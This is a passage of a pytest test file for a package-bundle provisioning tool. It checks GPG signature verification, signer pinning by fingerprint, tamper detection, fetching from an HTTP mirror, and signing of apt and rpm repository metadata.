    assert run_cli(["bundle", "verify", str(bundle)], monkeypatch) == 1
    captured = capsys.readouterr()
    assert refusal in captured.err and "ok" not in captured.out
    dest = tmp_path / "www"
    assert run_cli(["bundle", "unpack", str(bundle), str(dest)], monkeypatch) == 1
    assert "not signed (no manifest.json.asc)" in capsys.readouterr().err
    assert not dest.exists()
    opened: list[object] = []
    monkeypatch.setattr(serve, "open_server", lambda *args: opened.append(args))
    assert run_cli(["bundle", "serve", str(bundle), "--port", "0"], monkeypatch) == 1
    assert "not signed (no manifest.json.asc)" in capsys.readouterr().err
    assert opened == []
    # What --allow-unsigned gives up: the consistent rewrite passes, which is why it must be asked for.
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(bundle)], monkeypatch) == 0
    assert "files match the manifest, not signed" in capsys.readouterr().out


def fingerprint(gpg: list[str], uid: str) -> str:
    listed = subprocess.run(
        [*gpg, "--with-colons", "--fingerprint", uid], capture_output=True, text=True, check=True
    ).stdout
    return next(line.split(":")[9] for line in listed.splitlines() if line.startswith("fpr:"))


@pytest.mark.skipif(shutil.which("gpg") is None, reason="gpg is not installed")
def test_key_pins_the_signer_by_fingerprint(
    request: pytest.FixtureRequest,
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    home = gnupg_home(request, tmp_path)
    monkeypatch.setenv("GNUPGHOME", str(home))  # --key FINGERPRINT checks with the user's keyring
    gpg = ["gpg", "--homedir", str(home), "--batch", "--pinentry-mode", "loopback", "--passphrase", ""]
    for uid in ("site@test", "other@test"):
        subprocess.run([*gpg, "--quick-generate-key", uid, "ed25519", "sign", "never"], check=True)
    site, other = fingerprint(gpg, "site@test"), fingerprint(gpg, "other@test")
    good, foreign = tmp_path / "good.tar", tmp_path / "foreign.tar"
    assert build(monkeypatch, inventory, good, mirror, "--sign-key", site, "--gnupg-home", str(home)) == 0
    assert build(monkeypatch, inventory, foreign, mirror, "--sign-key", other, "--gnupg-home", str(home)) == 0
    capsys.readouterr()
    # The fingerprint as gpg --fingerprint prints it (groups of four) is accepted too.
    spaced = " ".join(site[i : i + 4] for i in range(0, 40, 4))
    for given in (site, site.lower(), spaced):
        assert run_cli(["bundle", "verify", str(good), "--key", given], monkeypatch) == 0
        assert f"files match the manifest, signed by {site}" in capsys.readouterr().out
    assert run_cli(["bundle", "verify", str(foreign), "--key", site], monkeypatch) == 1
    assert f"{foreign}: signed by {other}, not by the pinned key {site} (--key): refused" in (
        capsys.readouterr().err
    )
    # Without --key any key of the keyring vouches: the foreign bundle passes, which is what --key is for.
    assert run_cli(["bundle", "verify", str(foreign)], monkeypatch) == 0
    assert f"signed by {other}" in capsys.readouterr().out
    # serve and unpack verify with the same rule before anything is served or written.
    opened: list[object] = []
    monkeypatch.setattr(serve, "open_server", lambda *args: opened.append(args))
    assert run_cli(["bundle", "serve", str(foreign), "--key", site, "--port", "0"], monkeypatch) == 1
    assert f"not by the pinned key {site}" in capsys.readouterr().err
    assert opened == []
    dest = tmp_path / "www"
    assert run_cli(["bundle", "unpack", str(foreign), str(dest), "--key", site], monkeypatch) == 1
    assert f"not by the pinned key {site}" in capsys.readouterr().err
    assert not dest.exists()
    assert run_cli(["bundle", "unpack", str(good), str(dest), "--key", site], monkeypatch) == 0
    assert (dest / "manifest.json.asc").is_file()
    # A signed bundle rewritten consistently (the attack of the unsigned test) fails its signature.
    tamper_consistently(good)
    assert run_cli(["bundle", "verify", str(good), "--key", site], monkeypatch) == 1
    assert "manifest.json.asc does not verify manifest.json: bad signature" in capsys.readouterr().err
    # A --key that is neither a fingerprint nor a file is bad input.
    assert run_cli(["bundle", "verify", str(foreign), "--key", "ABCD"], monkeypatch) == 2
    assert (
        "--key ABCD: neither a key fingerprint (40 hex digits, 64 for a v6 key) nor a file"
        in capsys.readouterr().err
    )


# ------------------------------------------------------------------------------------- a mirror over HTTP


@pytest.fixture
def mirror_url(mirror: Path) -> Iterator[str]:
    """The mirror as a web server with folder listings serves it (nginx autoindex, Python's http.server):
    the builder reads the openEuler release folders from them. ``bundle serve`` lists none."""
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(mirror))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_a_mirror_over_http_gives_the_same_bundle_as_its_folder(
    bundle: Path,
    tmp_path: Path,
    inventory: Path,
    mirror_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    output = tmp_path / "remote.tar"
    assert build(monkeypatch, inventory, output, mirror_url) == 0
    capsys.readouterr()

    def files(archive: Path) -> dict[str, str]:
        return {e["path"]: e["sha256"] for e in json.loads(members(archive)["manifest.json"])["files"]}

    assert files(output) == files(bundle)
    assert "openeuler/openEuler-22.03-LTS-SP1/OS/aarch64/Packages/dkms-3.0-1.noarch.rpm" in files(output)
    assert build(monkeypatch, inventory, output, mirror_url) == 0
    assert " 0 copied, " in capsys.readouterr().out


def test_a_package_that_does_not_match_the_mirrors_metadata_is_refused(
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    mirror_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    (mirror / "ubuntu/pool/main/dkms_2.8_all.deb").write_bytes(b"changed on the mirror")
    assert build(monkeypatch, inventory, tmp_path / "remote.tar", mirror_url) == 2
    err = capsys.readouterr().err
    assert f"cannot fetch from {mirror_url}:" in err
    assert (
        f"{mirror_url}/ubuntu/pool/main/dkms_2.8_all.deb: sha256 {sha(b'changed on the mirror')} "
        "does not match" in err
    )


# ------------------------------------------------------------------------------ the bundle's own signatures


def gpgv(
    key: bytes, signed: Path, tmp_path: Path, data: Path | None = None
) -> subprocess.CompletedProcess[str]:
    """``gpgv`` against ``key`` alone, as apt checks an ``InRelease`` (``Signed-By``)."""
    keyring = tmp_path / "check.gpg"
    subprocess.run(["gpg", "--dearmor", "--yes", "--output", str(keyring)], input=key, check=True)
    argv = ["gpgv", "--keyring", str(keyring), str(signed), *([str(data)] if data else [])]
    return subprocess.run(argv, capture_output=True, text=True, check=False)


@pytest.mark.skipif(shutil.which("gpgv") is None, reason="gpg is not installed")
def test_sign_repos_writes_release_files_of_what_the_bundle_holds_signed_by_its_own_key(
    request: pytest.FixtureRequest,
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    output = tmp_path / "rack.tar"
    own = tmp_path / "rack.tar.gnupg"
    request.addfinalizer(lambda: stop_agent(own))
    assert build(monkeypatch, inventory, output, mirror, "--sign-repos") == 0
    assert f"generated the bundle's repository key in {own}" in capsys.readouterr().err
    files = members(output)
    listed = {e["path"]: e for e in json.loads(files["manifest.json"])["files"]}
    key = files["ubuntu/provision-bundle-archive-keyring.asc"]
    assert listed["ubuntu/provision-bundle-archive-keyring.asc"]["kind"] == "os-key"
    assert "ubuntu/archive-keyring.asc" not in files  # the mirror's key vouches for nothing here
    assert files["openeuler/RPM-GPG-KEY-provision-bundle"] == key
    release = files["ubuntu/dists/jammy/Release"].decode()
    # The mirror's header is kept; the hashes are of the files the bundle holds, no other architecture's.
    assert "Suite: jammy\n" in release and "Architectures: arm64\n" in release
    packages = files["ubuntu/dists/jammy/main/binary-arm64/Packages"]
    assert f" {sha(packages)} {len(packages):>8} main/binary-arm64/Packages\n" in release
    assert "binary-amd64" not in release
    work = tmp_path / "rack.tar.work"
    assert gpgv(key, work / "ubuntu/dists/jammy/InRelease", tmp_path).returncode == 0
    detached = work / "ubuntu/dists/jammy-security/Release.gpg"
    assert gpgv(key, detached, tmp_path, work / "ubuntu/dists/jammy-security/Release").returncode == 0
    repo = work / "openeuler/openEuler-22.03-LTS-SP1/OS/aarch64/repodata"
    assert gpgv(key, repo / "repomd.xml.asc", tmp_path, repo / "repomd.xml").returncode == 0
    (repo / "repomd.xml").write_text("changed")
    assert gpgv(key, repo / "repomd.xml.asc", tmp_path, repo / "repomd.xml").returncode != 0
    # A rerun signs with the same key (kept in FILE.gnupg/, never in the bundle).
    assert not any("gnupg" in name or "secring" in name or "private" in name for name in files)
    assert build(monkeypatch, inventory, output, mirror, "--sign-repos") == 0
    assert "generated" not in capsys.readouterr().err
    assert members(output)["ubuntu/provision-bundle-archive-keyring.asc"] == key
    # serve points apt at the bundle's key
    assert (
        serve.group_vars("http://b:8080", serve_manifest(output)).count(
            "openeuler_repos_apt_signed_by: http://b:8080/ubuntu/provision-bundle-archive-keyring.asc\n"
        )
        == 1
    )
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(output)], monkeypatch) == 0


def serve_manifest(archive: Path) -> Any:
    from provision.bundle import manifest as mf

    return mf.parse_manifest(members(archive)["manifest.json"], str(archive))


@pytest.mark.skipif(shutil.which("gpg") is None, reason="gpg is not installed")
def test_repo_key_signs_with_the_users_key_and_an_unknown_one_is_bad_input(
    request: pytest.FixtureRequest,
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    home = gnupg_home(request, tmp_path)
    gpg = ["gpg", "--homedir", str(home), "--batch", "--pinentry-mode", "loopback", "--passphrase", ""]
    subprocess.run([*gpg, "--quick-generate-key", "repos@test", "ed25519", "sign", "never"], check=True)
    mine = subprocess.run([*gpg, "--armor", "--export", "repos@test"], capture_output=True, check=True).stdout
    output = tmp_path / "rack.tar"
    args = ["--repo-key", "nobody@test", "--gnupg-home", str(home)]
    assert build(monkeypatch, inventory, output, mirror, *args) == 2
    assert "--repo-key nobody@test: no secret key" in capsys.readouterr().err
    assert not output.exists() and not (tmp_path / "rack.tar.work").exists()  # refused before any copy
    assert (
        build(monkeypatch, inventory, output, mirror, "--repo-key", "repos@test", "--gnupg-home", str(home))
        == 0
    )
    files = members(output)
    assert files["ubuntu/provision-bundle-archive-keyring.asc"] == mine
    assert gpgv(mine, tmp_path / "rack.tar.work/ubuntu/dists/jammy/InRelease", tmp_path).returncode == 0
    assert not (tmp_path / "rack.tar.gnupg").exists()


@pytest.mark.skipif(shutil.which("gpg") is None, reason="gpg is not installed")
def test_the_bundles_own_key_is_made_below_a_folder_too_deep_for_the_agents_socket(tmp_path: Path) -> None:
    """A GnuPG home whose agent sockets gpg-agent finds too long (107 bytes or more): it failed to
    start there ("No agent running") on a machine without /run/user/UID, as pytest-xdist's deeper temporary
    folders showed. gpg gets a short link to the folder instead."""
    deep = tmp_path / ("d" * 60) / "rack.tar"
    deep.parent.mkdir()
    own = deep.with_name("rack.tar.gnupg")
    assert len(f"{own}/S.gpg-agent.browser") > 106
    try:
        key, home, generated = ensure_key(deep, None, None)
        assert (home, generated) == (own, True)
        short = gpg_home(own)
        assert len(f"{short}/S.gpg-agent.browser") <= 106 and short.resolve() == own.resolve()
        listed = subprocess.run(
            ["gpg", "--homedir", str(short), "--list-secret-keys", key], capture_output=True, text=True
        )
        assert listed.returncode == 0, listed.stderr
    finally:
        stop_agent(own)
